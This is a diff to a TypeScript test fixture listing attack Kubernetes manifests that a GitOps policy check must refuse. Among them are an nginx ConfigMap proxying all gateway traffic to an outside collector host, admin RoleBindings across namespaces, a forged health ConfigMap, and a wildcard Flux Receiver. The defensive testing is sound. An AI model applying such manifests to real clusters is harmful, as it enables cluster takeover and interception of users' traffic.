@@ -1,17 +1,20 @@
 import * as YAML from "yaml";
 import * as names from "../../fleet/names";
+import { HEALTH_ANSWERS } from "../../fleet/traffic";
 
 /**
  * What a contributor with write access to the GitOps repository would add to `replicated/`
  * to take a cluster over: each attack is one file, rendered by `npm run synth` into every
- * cluster, and must fail `npm run check` naming the rule and the rendered file.
+ * cluster, and must fail `npm run check` naming the rule and the rendered file. The traffic
+ * layer has no folder in `replicated/` (synth refuses one): its attacks are written straight
+ * into each cluster's rendered `traffic/` folder and listed in its kustomization.
  * `source`: "issue" for the shapes issue 21 reports, "own" for those added while attacking
  * the allow-list; `refusedBefore` marks the ones another rule already refused before it.
  */
 export interface Attack {
   readonly name: string;
   readonly source: "issue" | "own";
-  readonly layer: "platform" | "apps";
+  readonly layer: "platform" | "traffic" | "apps";
   /** The file's YAML; its first document is the one the rule reports. */
   readonly yaml: string;
   readonly rule: string;
@@ -269,6 +272,49 @@ export const ATTACKS: readonly Attack[] = [
   {
     name: "a RoleBinding that gives admin to another namespace's service account", source: "own", layer: "platform", rule: "rbac-no-foreign-subject",
     yaml: doc({ apiVersion: RBAC, kind: "RoleBinding", metadata: { name: "cross-tenant", namespace: "payments" }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "admin" }, subjects: [{ kind: "ServiceAccount", name: "default", namespace: "ingress" }] }),
+  },
+  // ── Through the traffic layer: the failover switch, which nothing waits for ──
+  {
+    name: "the gateway's nginx configuration, rewritten from the traffic layer", source: "own", layer: "traffic", rule: "manifests-allowed-kinds",
+    yaml: doc({ apiVersion: "v1", kind: "ConfigMap", metadata: { name: "ingress-gateway", namespace: names.GATEWAY_NAMESPACE }, data: { "nginx.conf": "events {}\nhttp { server { listen 8080; location / { proxy_pass https://collector.example.com; } } }\n" } }),
+  },
+  {
+    name: "an app's settings shipped through the traffic layer, past the platform's review of apps", source: "own", layer: "traffic", rule: "manifests-allowed-kinds",
+    yaml: doc({ apiVersion: "v1", kind: "ConfigMap", metadata: { name: "feature-flags", namespace: "payments" }, data: { debug: "true" } }),
+  },
+  {
+    name: "a RoleBinding in the traffic layer that gives admin in the gateway's namespace", source: "own", layer: "traffic", rule: "manifests-allowed-kinds",
+    yaml: doc({ apiVersion: RBAC, kind: "RoleBinding", metadata: { name: "gateway-admins", namespace: names.GATEWAY_NAMESPACE }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "admin" }, subjects: [group("ops")] }),
+  },
+  { name: "a Deployment in the traffic layer", source: "own", layer: "traffic", rule: "manifests-allowed-kinds", yaml: deployment("sidecar", names.GATEWAY_NAMESPACE, hardenedPod()) },
+  {
+    name: "a kind replicated/'s CRD declares, in the traffic layer", source: "own", layer: "traffic", rule: "manifests-allowed-kinds",
+    yaml: doc({ apiVersion: "platform.eks-fleet.io/v1alpha1", kind: "MaintenanceWindow", metadata: { name: "always", namespace: names.GATEWAY_NAMESPACE }, spec: { schedule: "* * * * *", duration: "24h" } }),
+  },
+  {
+    name: "the health answers, redefined from the apps layer (a standby that answers serving)", source: "own", layer: "apps", rule: "manifests-unique-identity",
+    yaml: doc({ apiVersion: "v1", kind: "ConfigMap", metadata: { name: HEALTH_ANSWERS.name, namespace: HEALTH_ANSWERS.namespace }, data: { [HEALTH_ANSWERS.keys.serving]: "yes\n" } }),
+  },
+  {
+    name: "a ClusterRoleBinding that gives the apps layer's rights in every namespace", source: "own", layer: "platform", rule: "rbac-no-foreign-subject",
+    yaml: doc({
+      apiVersion: RBAC, kind: "ClusterRoleBinding", metadata: { name: "apps-everywhere" }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: names.layerRoleName("apps") },
+      subjects: [{ kind: "ServiceAccount", name: names.fluxLayerServiceAccount("apps"), namespace: names.AGENTS.flux.namespace }],
+    }),
+  },
+  {
+    name: "the traffic layer's role bound in a fleet namespace", source: "own", layer: "platform", rule: "rbac-no-foreign-subject",
+    yaml: doc({
+      apiVersion: RBAC, kind: "RoleBinding", metadata: { name: "traffic-in-payments", namespace: "payments" }, roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: names.layerRoleName("traffic") },
+      subjects: [{ kind: "ServiceAccount", name: names.fluxLayerServiceAccount("traffic"), namespace: names.AGENTS.flux.namespace }],
+    }),
+  },
+  {
+    name: "a Flux Receiver that lets anyone with its token trigger reconciles", source: "own", layer: "platform", rule: "manifests-allowed-kinds",
+    yaml: doc({
+      apiVersion: "notification.toolkit.fluxcd.io/v1", kind: "Receiver", metadata: { name: "anyone", namespace: "payments" },
+      spec: { type: "generic", secretRef: { name: "known-token" }, resources: [{ apiVersion: "kustomize.toolkit.fluxcd.io/v1", kind: "Kustomization", name: "*" }] },
+    }),
   },
   // ── Tried, and refused before the allow-list too ──
   {
